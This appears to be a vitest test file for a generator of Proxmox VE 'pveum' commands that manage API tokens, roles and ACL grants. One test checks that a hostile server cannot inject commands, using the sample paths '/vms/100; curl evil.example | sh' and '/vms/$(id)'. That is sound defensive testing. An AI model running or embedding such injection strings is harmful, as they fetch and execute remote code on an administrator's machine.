import { expect, test } from "vitest";
import readme from "../../../README.md?raw";
import { reviewToken, type Need } from "./tokenReview.ts";
import {
  extendCommand,
  forOperating,
  mendCommands,
  revokeCommand,
  tokenCommands,
} from "./tokenCommands.ts";

test("the role for everything holds every privilege that the review asks for", () => {
  const commands = tokenCommands("everything");
  for (const { needs } of reviewToken({}))
    for (const { privilege } of needs) expect(commands).toContain(privilege);
});

test("the token for reading takes Proxmox VE's own role and makes none", () => {
  const commands = tokenCommands("see");
  expect(commands).toContain("--roles PVEAuditor");
  expect(commands).not.toContain("role add");
  expect(commands).not.toContain("PowerMgmt");
});

test("the README gives the very lines of the dialog", () => {
  expect(readme).toContain(`\`\`\`sh\n${tokenCommands("operate")}\n\`\`\``);
});

test("a token is taken back, and extended, by user and name", () => {
  expect(revokeCommand("muster@pve!muster")).toBe(
    "pveum user token remove muster@pve muster",
  );
  expect(extendCommand("muster@pve!muster")).toMatch(
    /^pveum user token modify muster@pve muster --expire /,
  );
});

const snapshot: Need = { privilege: "VM.Snapshot", tree: "/vms" };
const token = { tokenId: "ops@pve!muster", isSeparated: false };

function grants(
  permissions: Parameters<typeof mendCommands>[0],
  missing: Need[] = [snapshot],
  kind: Parameters<typeof mendCommands>[2] = token,
) {
  const [, , ...lines] = mendCommands(permissions, missing, kind).split("\n");
  return lines;
}

test("what is missing, and nothing else, goes into a role, whether it exists or not", () => {
  const backup: Need = { privilege: "VM.Backup", tree: "/vms" };
  const lines = mendCommands({}, [snapshot, backup, snapshot], token);
  expect(lines.split("\n").slice(0, 2)).toEqual([
    'PRIVS="VM.Snapshot VM.Backup"',
    'pveum role add MusterMore --privs "$PRIVS" || pveum role modify MusterMore --append 1 --privs "$PRIVS"',
  ]);
});

test("what daily work takes is told from the rest", () => {
  const migrate: Need = { privilege: "VM.Migrate", tree: "/vms" };
  expect(forOperating([snapshot, migrate])).toEqual([snapshot]);
});

test("it is given where the token has what it has: deeper, it would replace what is handed down", () => {
  const audit = { "VM.Audit": 1 };
  const at = (path: string) => [
    `pveum acl modify ${path} --users ops@pve --roles MusterMore`,
  ];
  expect(grants({})).toEqual(at("/"));
  expect(grants({ "/": audit, "/vms": audit })).toEqual(at("/"));
  expect(grants({ "/vms": audit })).toEqual(at("/vms"));
  expect(grants({ "/": { "Sys.Audit": 1 }, "/vms": audit })).toEqual(
    at("/vms"),
  );
  expect(grants({ "/vms/100": audit })).toEqual(at("/vms/100"));
  expect(grants({ "/pool/lab": audit, "/vms/100": { "VM.Audit": 0 } })).toEqual(
    at("/pool/lab"),
  );
});

test("a separated token and its user both need it; root@pam has it; where it is not known, both are said", () => {
  const user = "pveum acl modify / --users ops@pve --roles MusterMore";
  const own = "pveum acl modify / --tokens 'ops@pve!muster' --roles MusterMore";
  for (const isSeparated of [true, null])
    expect(grants({}, [snapshot], { ...token, isSeparated })).toEqual([
      user,
      own,
    ]);
  expect(
    grants({}, [snapshot], { tokenId: "root@pam!muster", isSeparated: true }),
  ).toEqual([
    "pveum acl modify / --tokens 'root@pam!muster' --roles MusterMore",
  ]);
});

test("a hostile server writes nothing into the commands", () => {
  const hostile = "/vms/100; curl evil.example | sh";
  const lines = grants({ [hostile]: { "VM.Audit": 1 }, "/vms/$(id)": {} });
  expect(lines).toEqual([
    "pveum acl modify / --users ops@pve --roles MusterMore",
  ]);
});

test("several branches get a line each", () => {
  const space: Need = {
    privilege: "Datastore.AllocateSpace",
    tree: "/storage",
  };
  expect(
    grants(
      { "/vms": { "VM.Audit": 1 }, "/storage": { "Datastore.Audit": 1 } },
      [snapshot, space],
    ).map((line) => line.split(" ")[3]),
  ).toEqual(["/vms", "/storage"]);
});
